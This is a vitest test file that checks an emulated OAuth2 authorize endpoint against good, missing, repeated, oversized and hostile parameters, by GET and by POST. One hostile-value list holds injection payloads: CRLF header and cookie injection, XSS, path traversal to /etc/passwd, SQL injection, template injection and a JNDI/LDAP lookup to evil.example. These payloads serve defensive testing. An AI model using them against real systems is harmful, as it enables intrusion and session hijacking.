import { load } from 'cheerio'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { decode, requestTokens } from '../support/relying-party.ts'
import { createUserAgent } from '../support/user-agent.ts'
import { callback, codeForm, configurationOf, createBrowser, password, startPool } from './pool.ts'
import type { ConformancePool } from './pool.ts'
import { rawRequest } from './raw-request.ts'

/*
 * Every parameter of /oauth2/authorize (reference: hosted UI §3), good, missing, twice, huge and hostile, by GET and by
 * POST. While client or redirect URI are not proven the person is told, on our own page; afterwards the app is.
 */

const challenge = 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWB2DBsGIHtcs'

let pool: ConformancePool
beforeAll(async () => {
  pool = await startPool({
    configuration: configurationOf({
      clients: {
        narrow: { AllowedOAuthScopes: ['openid', 'email', 'api/read'] },
        both: { AllowedOAuthFlows: ['code', 'implicit'] },
        several: { CallbackURLs: [callback, 'https://app.example.com/other'] },
        google: { SupportedIdentityProviders: ['COGNITO', 'Google'] },
        federated: { SupportedIdentityProviders: ['Google'] },
        closed: { SupportedIdentityProviders: [] },
      },
    }),
  })
})
afterAll(() => pool.stop())

type Parameters = Record<string, string | readonly string[] | undefined>

/** A good request with parameters changed, repeated (an array) or taken away. */
function pairsOf(parameters: Parameters): [string, string][] {
  const all: Parameters = {
    client_id: 'app',
    response_type: 'code',
    redirect_uri: callback,
    scope: 'openid',
    state: 's',
    code_challenge: challenge,
    code_challenge_method: 'S256',
    ...parameters,
  }
  return Object.entries(all).flatMap(([name, value]) =>
    [value ?? []].flat().map((each): [string, string] => [name, each]),
  )
}

const methods = ['GET', 'POST'] as const
type Method = (typeof methods)[number]

/** What the request comes to; one that is sent round by POST is followed to the GET that it becomes. */
async function ask(method: Method, parameters: Parameters): Promise<Response> {
  const endpoint = `${pool.base}/oauth2/authorize`
  const sent = new URLSearchParams(pairsOf(parameters))
  if (method === 'GET') return fetch(`${endpoint}?${sent.toString()}`, { redirect: 'manual' })
  const response = await fetch(endpoint, { method, body: sent, redirect: 'manual' })
  const location = response.headers.get('location') ?? ''
  if (!location.startsWith('/oauth2/authorize?')) return response
  expect([...new URLSearchParams(location.split('?')[1])]).toEqual([...sent])
  return fetch(pool.base + location, { redirect: 'manual' })
}

type Outcome = 'login' | 'page' | { error: string; answer: URLSearchParams }

/** Which of the three orderly answers it is; anything else fails. */
async function outcomeOf(response: Response): Promise<Outcome> {
  const location = response.headers.get('location')
  expect(response.headers.get('cache-control')).toBe('no-store')
  if (location === null) {
    expect([response.status, response.headers.get('content-type')]).toEqual([400, 'text/html; charset=utf-8'])
    expect(response.headers.get('content-security-policy')).toContain("default-src 'none'")
    const $ = load(await response.text())
    expect($('h1').text()).not.toBe('')
    expect($('script').length).toBe(1)
    return 'page'
  }
  expect(response.status).toBe(303)
  if (/^\/login\?client_id=[a-z]+&flow=[\w-]{43}$/.test(location)) return 'login'
  const url = new URL(location)
  expect(url.origin + url.pathname).toBe(callback)
  const answer = url.hash === '' ? url.searchParams : new URLSearchParams(url.hash.slice(1))
  expect(answer.get('iss')).toBe(pool.issuer)
  expect([...answer.keys()].toSorted()).toEqual(
    ['error', 'error_description', 'iss', 'state'].filter((name) => answer.has(name)),
  )
  return { error: answer.get('error') ?? '', answer }
}

const kindOf = (outcome: Outcome): string => (typeof outcome === 'string' ? outcome : outcome.error)

type Row = [what: string, parameters: Parameters, outcome: string]

const table: Record<string, readonly Row[]> = {
  response_type: [
    ['code', {}, 'login'],
    ['token, of a client that may', { client_id: 'both', response_type: 'token' }, 'login'],
    ['token, of one that may not', { response_type: 'token' }, 'unauthorized_client'],
    ['missing', { response_type: undefined }, 'invalid_request'],
    ['empty', { response_type: '' }, 'invalid_request'],
    ['twice', { response_type: ['code', 'code'] }, 'invalid_request'],
    ['two kinds', { response_type: ['code', 'token'] }, 'invalid_request'],
    ['id_token', { response_type: 'id_token', nonce: 'n' }, 'unsupported_response_type'],
    ['hybrid', { response_type: 'code id_token', nonce: 'n' }, 'unsupported_response_type'],
    ['in capitals', { response_type: 'CODE' }, 'unsupported_response_type'],
    ['with a line break', { response_type: 'code\r\n' }, 'unsupported_response_type'],
    ['with a zero byte', { response_type: 'code\0' }, 'invalid_request'],
    ['huge', { response_type: 'code'.repeat(2000) }, 'unsupported_response_type'],
  ],
  client_id: [
    ['good', {}, 'login'],
    ['missing', { client_id: undefined }, 'page'],
    ['empty', { client_id: '' }, 'page'],
    ['twice the same', { client_id: ['app', 'app'] }, 'page'],
    ['two clients', { client_id: ['app', 'both'] }, 'page'],
    ['unknown', { client_id: 'nobody' }, 'page'],
    ['in capitals', { client_id: 'APP' }, 'page'],
    ['of objects', { client_id: '__proto__' }, 'page'],
    ['huge', { client_id: 'a'.repeat(12_000) }, 'page'],
  ],
  redirect_uri: [
    ['good', {}, 'login'],
    ['missing, where there is one', { redirect_uri: undefined }, 'login'],
    ['empty, where there is one', { redirect_uri: '' }, 'login'],
    ['missing, where there are several', { client_id: 'several', redirect_uri: undefined }, 'page'],
    ['twice the same', { redirect_uri: [callback, callback] }, 'page'],
    ['two of them', { redirect_uri: [callback, 'https://evil.example/'] }, 'page'],
    ['of another client', { redirect_uri: 'https://app.example.com/other' }, 'page'],
    ['huge', { redirect_uri: `${callback}?${'x'.repeat(12_000)}` }, 'page'],
  ],
  state: [
    ['good', { state: 'xyz' }, 'login'],
    ['missing', { state: undefined }, 'login'],
    ['empty', { state: '' }, 'login'],
    ['twice', { state: ['a', 'b'] }, 'invalid_request'],
    ['4 kB', { state: 'x'.repeat(4096) }, 'login'],
    ['4 kB of percent signs', { state: '%'.repeat(4096) }, 'login'],
    ['too long', { state: 'x'.repeat(17_000) }, 'page'],
    ['with a zero byte', { state: 'a\0' }, 'invalid_request'],
  ],
  identity_provider: [
    ['COGNITO', { identity_provider: 'COGNITO' }, 'login'],
    ['missing', {}, 'login'],
    ['empty', { identity_provider: '' }, 'login'],
    ['twice', { identity_provider: ['COGNITO', 'COGNITO'] }, 'invalid_request'],
    ['unknown', { identity_provider: 'Nobody' }, 'invalid_request'],
    ['of another client', { identity_provider: 'Google' }, 'invalid_request'],
    ['listed, but not there', { client_id: 'google', identity_provider: 'Google' }, 'invalid_request'],
    ['COGNITO, of a client without', { client_id: 'federated', identity_provider: 'COGNITO' }, 'invalid_request'],
    ['in other letters', { identity_provider: 'cognito' }, 'invalid_request'],
    ['of objects', { identity_provider: 'constructor' }, 'invalid_request'],
    ['huge', { identity_provider: 'x'.repeat(12_000) }, 'invalid_request'],
  ],
  idp_identifier: [
    ['empty', { idp_identifier: '' }, 'login'],
    ['twice', { idp_identifier: ['a', 'b'] }, 'invalid_request'],
    ['unknown', { idp_identifier: 'example.com' }, 'invalid_request'],
    ['huge', { idp_identifier: 'x'.repeat(12_000) }, 'invalid_request'],
  ],
  scope: [
    ['good', { scope: 'openid email api/read' }, 'login'],
    ['missing', { scope: undefined }, 'login'],
    ['empty', { scope: '' }, 'login'],
    ['twice', { scope: ['openid', 'email'] }, 'invalid_request'],
    ['the same one twice inside', { scope: 'openid openid' }, 'login'],
    ['unknown', { scope: 'openid nonsense' }, 'invalid_scope'],
    ['not for this client', { client_id: 'narrow', scope: 'openid phone' }, 'invalid_scope'],
    ['email without openid', { scope: 'email' }, 'invalid_scope'],
    ['a custom one alone', { scope: 'api/read' }, 'login'],
    ['with a line break', { scope: 'openid\r\nemail' }, 'invalid_scope'],
    ['with a non-breaking blank', { scope: 'openid\u00a0email' }, 'invalid_scope'],
    ['with a zero byte', { scope: 'openid\0' }, 'invalid_request'],
    ['huge', { scope: 'openid '.repeat(1700) }, 'login'],
    ['huge and unknown', { scope: `openid ${'x'.repeat(12_000)}` }, 'invalid_scope'],
  ],
  code_challenge: [
    ['missing', { code_challenge: undefined, code_challenge_method: undefined }, 'invalid_request'],
    ['empty', { code_challenge: '' }, 'invalid_request'],
    ['twice', { code_challenge: [challenge, challenge] }, 'invalid_request'],
    ['missing, of a confidential client', { client_id: 'backend', code_challenge: undefined }, 'invalid_request'],
    ['in other characters', { code_challenge: `${challenge.slice(1)}=` }, 'invalid_request'],
    ['with a line break', { code_challenge: `${challenge}\n` }, 'invalid_request'],
    ['with a zero byte', { code_challenge: `${challenge}\0` }, 'invalid_request'],
    ['huge', { code_challenge: 'a'.repeat(12_000) }, 'invalid_request'],
  ],
  code_challenge_method: [
    ['missing', { code_challenge_method: undefined }, 'invalid_request'],
    ['empty', { code_challenge_method: '' }, 'invalid_request'],
    ['twice', { code_challenge_method: ['S256', 'S256'] }, 'invalid_request'],
    ['plain', { code_challenge_method: 'plain' }, 'invalid_request'],
    ['in other letters', { code_challenge_method: 's256' }, 'invalid_request'],
    ['none, and no challenge, of a confidential client', { client_id: 'backend', ...withoutPkce() }, 'login'],
    ['huge', { code_challenge_method: 'S256'.repeat(3000) }, 'invalid_request'],
  ],
  nonce: [
    ['good', { nonce: 'n-0S6' }, 'login'],
    ['empty', { nonce: '' }, 'login'],
    ['twice', { nonce: ['a', 'b'] }, 'invalid_request'],
    ['with a line break', { nonce: 'a\r\nb' }, 'login'],
    ['with a zero byte', { nonce: 'a\0' }, 'invalid_request'],
    ['huge', { nonce: 'n'.repeat(12_000) }, 'login'],
  ],
  login_hint: [
    ['good', { login_hint: 'ana@example.org' }, 'login'],
    ['twice', { login_hint: ['a', 'b'] }, 'invalid_request'],
    ['markup', { login_hint: '"><script>alert(1)</script>' }, 'login'],
    ['with a zero byte', { login_hint: 'a\0' }, 'invalid_request'],
    ['huge', { login_hint: 'x'.repeat(12_000) }, 'login'],
  ],
  lang: [
    ['good', { lang: 'de' }, 'login'],
    ['one that we have not', { lang: 'tlh' }, 'login'],
    ['a path', { lang: '../../etc/passwd' }, 'login'],
    ['twice', { lang: ['de', 'en'] }, 'invalid_request'],
    ['huge', { lang: 'de'.repeat(6000) }, 'login'],
  ],
  ui_locales: [
    ['good', { ui_locales: 'fr-CA de' }, 'login'],
    ['of objects', { ui_locales: '__proto__ constructor' }, 'login'],
    ['twice', { ui_locales: ['de', 'en'] }, 'invalid_request'],
    ['huge', { ui_locales: 'de '.repeat(4000) }, 'login'],
  ],
  resource: [
    ['good', { resource: 'https://api.example.com/v1' }, 'login'],
    ['of another scheme', { resource: 'api://orders' }, 'login'],
    ['empty', { resource: '' }, 'login'],
    ['two of them', { resource: ['https://a.example', 'https://b.example'] }, 'invalid_request'],
    ['no URL', { resource: 'orders' }, 'invalid_target'],
    ['relative', { resource: '/orders' }, 'invalid_target'],
    ['with a fragment', { resource: 'https://api.example.com/#x' }, 'invalid_target'],
    ['script', { resource: 'javascript:alert(1)' }, 'invalid_target'],
    ['blanks around', { resource: ' https://api.example.com' }, 'invalid_target'],
    ['with a line break', { resource: 'https://api.example.com/\r\nx' }, 'invalid_target'],
    ['with a tab', { resource: 'https://api.example.com/\tx' }, 'invalid_target'],
    ['in other letters', { resource: 'https://api.exämple.com' }, 'invalid_target'],
    ['with a backslash', { resource: 'https:\\\\api.example.com' }, 'invalid_target'],
    ['markup', { resource: 'https://api.example.com/<script>' }, 'invalid_target'],
  ],
  response_mode: [
    ['query', { response_mode: 'query' }, 'login'],
    ['fragment', { response_mode: 'fragment' }, 'login'],
    ['form_post', { response_mode: 'form_post' }, 'login'],
    ['empty', { response_mode: '' }, 'login'],
    ['twice', { response_mode: ['query', 'query'] }, 'invalid_request'],
    ['unknown', { response_mode: 'pigeon' }, 'invalid_request'],
    ['of the engine', { response_mode: 'web_message' }, 'invalid_request'],
    ['query for tokens', { client_id: 'both', response_type: 'token', response_mode: 'query' }, 'invalid_request'],
    ['huge', { response_mode: 'query'.repeat(2000) }, 'invalid_request'],
  ],
}

function withoutPkce(): Parameters {
  return { code_challenge: undefined, code_challenge_method: undefined }
}

describe.each(methods)('by %s', (method) => {
  describe.each(Object.entries(table))('%s', (_name, rows) => {
    test.each(rows)('%s', async (_what, parameters, expected) => {
      const outcome = await outcomeOf(await ask(method, parameters))
      expect(kindOf(outcome)).toBe(expected)
      if (typeof outcome === 'string') return
      const state = 'state' in parameters ? parameters['state'] : 's'
      expect(outcome.answer.get('state')).toBe(typeof state === 'string' ? state : null)
      expect(outcome.answer.get('error_description')).not.toBeNull()
    })
  })

  /** With everything else wrong as well, an unproven client or address still gets nothing sent to it. */
  test.each(['client_id', 'redirect_uri'])('a wrong %s outweighs every other fault', async (name) => {
    for (const rows of Object.values(table)) {
      for (const [what, parameters] of rows) {
        const outcome = await outcomeOf(await ask(method, { ...parameters, [name]: 'https://evil.example/' }))
        expect([what, outcome]).toEqual([what, 'page'])
      }
    }
  })
})

const hostile = [
  '\r\nSet-Cookie: stolen=1',
  '\r\n\r\n<script>alert(1)</script>',
  'a\nLocation: https://evil.example/',
  '\0',
  'a\0b',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '{{constructor.constructor("x")()}}{% assign x = 1 %}',
  '\u202ekcehc\u2028\u2029\ufeff\u200b',
  '\u{1F600}é\u0301ﬀＡ',
  '%00%0d%0a%252e%2e%',
  '%',
  '%zz',
  '../../../../etc/passwd',
  '//evil.example',
  'https://evil.example/?code=1&state=2',
  '&code=evil&error=evil#x',
  "' OR 1=1; --",
  '$' + '{jndi:ldap://evil.example/x}',
  '[object Object]',
  '__proto__',
  'constructor',
  '-1',
  '1e999',
  'NaN',
  '9'.repeat(400),
  ' ',
  'x'.repeat(8000),
]

const every = [...Object.keys(table), 'prompt', 'max_age', 'acr_values', 'display', 'claims', 'id_token_hint', 'x']

describe.each(every)('hostile values of %s', (name) => {
  test.each(hostile.map((value) => [value.slice(0, 60), value] as const))('%j', async (_shown, value) => {
    for (const method of methods) {
      const response = await ask(method, { [name]: value })
      const headers = JSON.stringify([...response.headers])
      expect(response.headers.getSetCookie().join()).not.toContain('stolen')
      expect(headers).not.toMatch(/<script|\\r|\\n/)
      const body = await response.clone().text()
      expect(body).not.toMatch(/<script>alert|onerror=alert/)
      const outcome = await outcomeOf(response)
      if (name === 'client_id' || name === 'redirect_uri') expect(outcome).toBe('page')
      // What an app gets back is its own state, to the letter.
      if (typeof outcome !== 'string') expect(outcome.answer.get('state')).toBe(name === 'state' ? value : 's')
    }
  })

  test('whatever is sent instead of UTF-8 is no trouble either', async () => {
    const rest = new URLSearchParams(pairsOf({ [name]: undefined })).toString()
    for (const bytes of ['%ff', '%c0%ae', '%ed%a0%80', '%f5%80%80%80', '%e2%82', '%u0041', '%', '+', '%2', '%%']) {
      for (const body of [undefined, `${rest}&${name}=${bytes}`]) {
        const url = `${pool.base}/oauth2/authorize${body === undefined ? `?${rest}&${name}=${bytes}` : ''}`
        const init = {
          method: 'POST',
          body: body ?? '',
          headers: { 'content-type': 'application/x-www-form-urlencoded' },
        }
        const response = await fetch(url, { redirect: 'manual', ...(body === undefined ? {} : init) })
        expect([bytes, response.status < 500]).toEqual([bytes, true])
        const location = response.headers.get('location') ?? '/'
        expect(location.startsWith('/') || location.startsWith(callback)).toBe(true)
      }
    }
  })
})

describe('what is far too long', () => {
  const host = (): Record<string, string> => ({ host: new URL(pool.base).host })

  test.each(every)('%s of 100 kB is told so, in an address and in a form', async (name) => {
    const sent = new URLSearchParams(pairsOf({ [name]: 'x'.repeat(100_000) })).toString()
    const answer = await rawRequest(pool.port, `/oauth2/authorize?${sent}`, { headers: host() }).catch(
      (error: unknown) => {
        // Told while still sending, a client may find the connection closed.
        expect(['ECONNRESET', 'EPIPE']).toContain((error as NodeJS.ErrnoException).code)
        return undefined
      },
    )
    if (answer !== undefined) expect([answer.status, answer.body]).toEqual([431, expect.stringMatching(/too long/)])
    for (const [size, status] of [
      [100_000, 413],
      [40_000, 400],
    ] as const) {
      const response = await fetch(`${pool.base}/oauth2/authorize`, {
        method: 'POST',
        body: new URLSearchParams(pairsOf({ [name]: 'x'.repeat(size) })),
        redirect: 'manual',
      })
      expect(response.status).toBe(status)
      expect(await response.text()).toContain('<h1>')
    }
    expect((await fetch(`${pool.base}/healthz`)).status).toBe(200)
  })

  test('and so are too many parameters', async () => {
    const many = Array.from({ length: 1200 }, (_each, index) => `p${index}=`).join('&')
    const sent = new URLSearchParams(pairsOf({})).toString()
    for (const query of [`${many}&${sent}`, `${sent}&${many}`]) {
      expect(await outcomeOf(await fetch(`${pool.base}/oauth2/authorize?${query}`, { redirect: 'manual' }))).toBe(
        'page',
      )
    }
  })
})

describe('a POST', () => {
  const post = (body: string, type: string, query = ''): Promise<Response> =>
    fetch(`${pool.base}/oauth2/authorize${query}`, {
      method: 'POST',
      body,
      headers: { 'content-type': type },
      redirect: 'manual',
    })

  test.each(['application/json', 'multipart/form-data; boundary=x', 'text/plain'])('as %s is refused', async (type) => {
    expect(await outcomeOf(await post(JSON.stringify({ client_id: 'app' }), type))).toBe('page')
  })

  test('adds to what the address says, and contradicts nothing of it', async () => {
    const form = 'application/x-www-form-urlencoded'
    const half = new URLSearchParams(pairsOf({ client_id: undefined })).toString()
    const good = await post(half, form, '?client_id=app')
    expect([good.status, good.headers.get('location')]).toEqual([303, `/oauth2/authorize?client_id=app&${half}`])
    const whole = new URLSearchParams(pairsOf({})).toString()
    expect(await outcomeOf(await post(whole, form, '?client_id=both'))).toBe('page')
    expect(kindOf(await outcomeOf(await post(whole, form, '?scope=openid')))).toBe('invalid_request')
  })

  test('leads to a code like a GET', async () => {
    const browser = createBrowser(pool.base)
    const { request } = await browser.authorize()
    const answer = await browser.agent.visit('/oauth2/authorize', {
      method: 'POST',
      body: new URL(request.url).searchParams,
    })
    expect((await requestTokens(pool.base, codeForm(answer.url, request))).status).toBe(200)
  })
})

describe('what a parameter comes to', () => {
  test.each([
    ['plain', 'x'.repeat(4096)],
    ['Base64', Buffer.alloc(3072, 'state?>').toString('base64')],
    ['percent signs', '%'.repeat(4096)],
    ['JSON', JSON.stringify({ a: '"'.repeat(1500), b: [' ', '+', '&', '=', '#'] })],
    ['line breaks', '\r\n'.repeat(2048)],
    ['of other languages', '\u{1F600}é\u0301مرحبا'.repeat(200)],
  ])('a state of 4 kB (%s) comes back as it was, with a code and with an error', async (_what, state) => {
    for (const response_mode of ['query', 'fragment']) {
      const { answer } = await createBrowser(pool.base).authorize({ state, response_mode })
      const told = answer.hash === '' ? answer.searchParams : new URLSearchParams(answer.hash.slice(1))
      expect(told.get('state')).toBe(state)
      expect(told.has('code')).toBe(true)
      const refused = await outcomeOf(await ask('GET', { state, response_mode, scope: 'nonsense' }))
      expect(typeof refused === 'string' ? refused : refused.answer.get('state')).toBe(state)
    }
  })

  test.each(['n-0S6', '"><b>', '\u{1F600}\r\n', 'n'.repeat(8000)])('the nonce is in the ID token', async (nonce) => {
    const { idToken } = await createBrowser(pool.base).signIn({ nonce })
    expect(decode(idToken)['nonce']).toBe(nonce)
  })

  test('a missing scope is all that the client may have', async () => {
    const { body } = await createBrowser(pool.base).signIn({ client_id: 'narrow', scope: undefined })
    expect(body.scope).toBe('openid email api/read')
  })

  test('the resource is the audience of the access token, to the letter, and stays so', async () => {
    for (const resource of ['https://api.example.com/v1?a=%20b', 'HTTPS://API.example.com:443/../x', 'api://orders']) {
      const { accessToken, refreshToken } = await createBrowser(pool.base).signIn({ resource })
      expect(decode(accessToken)['aud']).toBe(resource)
      const form = { grant_type: 'refresh_token', client_id: 'app', refresh_token: refreshToken }
      expect(decode((await requestTokens(pool.base, form)).body.access_token)['aud']).toBe(resource)
    }
  })

  test('a login_hint stands in the form, whatever it is', async () => {
    for (const login_hint of ['ana', '"><script>alert(1)</script>', '\u202e\u{1F600}', 'x'.repeat(8000)]) {
      const query = new URLSearchParams(pairsOf({ login_hint })).toString()
      const page = await createUserAgent(pool.base).visit(`/oauth2/authorize?${query}`)
      expect(page.field('username')).toBe(login_hint)
      expect(page.html).not.toContain('<script>alert')
    }
  })

  test.each([
    [{ lang: 'de' }, 'Anmelden'],
    [{ ui_locales: 'fr de' }, 'Anmelden'],
    [{ lang: 'de', ui_locales: 'ar' }, 'Anmelden'],
    [{ lang: 'xx', ui_locales: 'de' }, 'Anmelden'],
    [{ lang: '../de' }, 'Sign in'],
  ])('%o chooses the language', async (parameters, heading) => {
    const query = new URLSearchParams(pairsOf(parameters)).toString()
    expect((await createUserAgent(pool.base).visit(`/oauth2/authorize?${query}`)).heading).toBe(heading)
  })

  test('lang is kept for later, until the person chooses another, or an app asks for one', async () => {
    const agent = createUserAgent(pool.base)
    const visit = (parameters: Parameters) =>
      agent.visit(`/oauth2/authorize?${new URLSearchParams(pairsOf(parameters)).toString()}`)
    expect((await visit({ ui_locales: 'de' })).heading).toBe('Anmelden')
    expect((await visit({})).heading).toBe('Sign in')
    expect((await visit({ lang: 'de' })).heading).toBe('Anmelden')
    expect((await visit({})).heading).toBe('Anmelden')
    expect((await agent.visit('/logout?client_id=app')).html).toContain('lang="de"')
    const english = await (await visit({ lang: 'de' })).follow('English')
    expect(english.heading).toBe('Sign in')
    expect((await english.submit({ username: 'ana', password: 'Wrong-1843' })).heading).toBe('Sign in')
    expect((await visit({})).heading).toBe('Sign in')
    expect((await visit({ lang: 'ar' })).html).toContain('dir="rtl"')
    // What is refused or unreadable changes nothing.
    for (const lang of [['de', 'en'], 'de; Path=/x', '', '../de', 'de\0']) {
      await agent.request(`${pool.base}/oauth2/authorize?${new URLSearchParams(pairsOf({ lang })).toString()}`)
      expect([lang, agent.cookies.get('lang')]).toEqual([lang, 'ar'])
    }
  })

  test('acr_values that a password is enough for, display and claims change nothing: a password is a password', async () => {
    const asked = { acr_values: 'urn:cognito:loa:4 urn:cognito:loa:1', display: 'popup', claims: '{"userinfo":{}}' }
    const { idToken, accessToken } = await createBrowser(pool.base).signIn(asked)
    for (const token of [idToken, accessToken]) {
      expect(decode(token)['amr']).toEqual(['pwd'])
      expect(decode(token)['acr']).toBe('urn:cognito:loa:1')
    }
  })

  test('identity_provider=COGNITO is the sign-in page, or a code for who is signed in', async () => {
    const browser = createBrowser(pool.base)
    const { request } = await browser.authorize({ identity_provider: 'COGNITO' })
    const again = await browser.agent.visit(request.url)
    expect([again.status, again.url.searchParams.has('code')]).toEqual([0, true])
  })
})

describe('a client whose people may not use accounts of the pool', () => {
  test.each(['federated', 'closed'])('%s: a page says that there is no way to sign in', async (clientId) => {
    for (const path of ['/oauth2/authorize', '/login', '/signup', '/forgotPassword']) {
      const query = new URLSearchParams(pairsOf({ client_id: clientId })).toString()
      const page = await createUserAgent(pool.base).visit(`${path}?${query}`)
      expect([path, page.status, page.heading]).toEqual([path, 400, 'There is no way to sign in here'])
      expect(page.html).not.toContain('<form')
      expect(page.html).toContain('href="https://app.example.com/"')
    }
  })

  test.each(['/login', '/signup', '/forgotPassword', '/confirm', '/resetPassword', '/changePassword', '/resendcode'])(
    'no form of a page that is not shown is taken either: %s',
    async (path) => {
      const agent = createUserAgent(pool.base)
      const query = new URLSearchParams(pairsOf({ client_id: 'federated' })).toString()
      const page = await agent.visit(`/oauth2/authorize?${query}`)
      const flow = page.url.searchParams.get('flow') ?? ''
      expect(flow).not.toBe('')
      const body = new URLSearchParams({ flow, username: 'ana', password })
      const answer = await agent.visit(`${path}?client_id=federated`, { method: 'POST', body })
      expect([answer.status, answer.heading]).toEqual([400, 'There is no way to sign in here'])
    },
  )

  test('who asks in silence is told that a login is needed', async () => {
    const outcome = await outcomeOf(await ask('GET', { client_id: 'federated', prompt: 'none' }))
    expect(kindOf(outcome)).toBe('login_required')
  })
})
